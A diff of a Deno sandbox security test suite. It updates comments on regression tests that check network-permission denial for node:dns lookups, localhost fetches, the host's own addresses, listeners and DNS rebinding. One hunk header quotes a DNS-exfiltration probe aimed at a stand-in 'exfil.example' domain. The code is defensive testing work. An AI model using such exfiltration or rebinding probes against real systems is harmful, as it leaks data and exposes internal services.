@@ -129,7 +129,7 @@ await Deno.resolveDns(\`\${label}.exfil.example\`, "TXT", { nameServer: { ipAddr
   });
 
   await t.step("DNS resolution through node:dns is denied net", async () => {
-    // See /work/notes/security-findings.md F3: reported as runtime "getaddrinfo EPERM".
+    // Regression (finding F3): used to be typed runtime ("getaddrinfo EPERM").
     await expectFailure(
       ex,
       `const dns = process.getBuiltinModule("node:dns");\nawait dns.promises.lookup("example.com")`,
@@ -188,7 +188,7 @@ Deno.test("security: net: true still denies loopback, private and the host's own
   }
 
   await t.step("fetch of http://localhost:port/ is denied net after resolution", async () => {
-    // See /work/notes/security-findings.md F3: blocked, but typed "runtime" ("fetch failed").
+    // Regression (finding F3): blocked, but used to be typed runtime ("fetch failed").
     await expectFailure(ex, fetchText("localhost"), { kind: "permission", permission: "net" });
     await suite.check();
   });
@@ -278,7 +278,7 @@ await res.text()`,
     name: "the host's own IPv4 addresses do not reach a host service bound to all interfaces",
     ignore: own.v4.length === 0,
     fn: async () => {
-      // See /work/notes/security-findings.md F1.
+      // Regression (finding F1): only loopback and private ranges used to be denied.
       for (const address of own.v4) {
         await expectFailure(ex, fetchText(address), { kind: "permission", permission: "net" });
         await expectFailure(ex, fetchText(`[::ffff:${address}]`), {
@@ -294,7 +294,7 @@ await res.text()`,
     name: "the host's own IPv6 and link-local addresses do not reach a host service",
     ignore: own.v6.length + own.linkLocal.length === 0,
     fn: async () => {
-      // See /work/notes/security-findings.md F1.
+      // Regression (finding F1): only loopback and private ranges used to be denied.
       for (const address of own.v6) {
         await expectFailure(ex, fetchText(address, "port6"), {
           kind: "permission",
@@ -317,7 +317,7 @@ conn.close();`,
     name: "a listener on the host's own address is denied net",
     ignore: own.v4.length === 0,
     fn: async () => {
-      // See /work/notes/security-findings.md F1.
+      // Regression (finding F1): only loopback and private ranges used to be denied.
       await expectFailure(
         ex,
         `const l = Deno.listen({ hostname: ${JSON.stringify(own.v4[0])}, port: 0 });
@@ -414,7 +414,7 @@ Deno.test({
   name: "security: an allowed hostname that resolves to loopback (DNS rebinding) is denied net",
   ignore: alias === undefined,
   fn: async (t) => {
-    // See /work/notes/security-findings.md F11. The user allowed a *name*; its
+    // Regression (finding F11). The user allowed a *name*; its
     // address turning out to be 127.0.0.1 must not open the host's loopback.
     await using canary = await startCanary();
     await using suite = await startSuite({ permissions: { net: [`${alias}:${canary.port}`] } });
